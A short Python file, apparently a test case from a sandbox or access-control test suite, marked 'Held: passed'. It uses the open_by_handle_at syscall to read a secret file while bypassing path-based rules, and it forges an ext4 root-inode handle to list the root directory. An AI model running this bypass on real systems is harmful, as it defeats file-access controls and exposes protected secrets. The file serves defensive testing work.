"""Opens the secret by its file handle: no path is walked, so no rule on paths is asked.

Held: passed
"""

import ctypes
import os
import platform

NAME_TO_HANDLE, OPEN_BY_HANDLE = {"x86_64": (303, 304), "aarch64": (264, 265)}[platform.machine()]
AT_FDCWD = -100


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]


def attack(target):
    libc = ctypes.CDLL(None, use_errno=True)
    handle, mount = Handle(128), ctypes.c_int()
    path = target["secret_file"].encode()
    named = libc.syscall(NAME_TO_HANDLE, AT_FDCWD, path, ctypes.byref(handle), ctypes.byref(mount), 0)
    if named < 0:  # guess: the root folder of an ext4 file system is inode 2
        handle = Handle(8, 1)
        handle.data[0] = 2
    for place in (".", "/", "/usr/lib", "/proc/meminfo"):
        try:
            at = os.open(place, os.O_RDONLY)
        except OSError:
            continue
        descriptor = libc.syscall(OPEN_BY_HANDLE, at, ctypes.byref(handle), os.O_RDONLY)
        os.close(at)
        if descriptor >= 0:
            return os.read(descriptor, 100) if named >= 0 else os.listdir(descriptor)
    return None
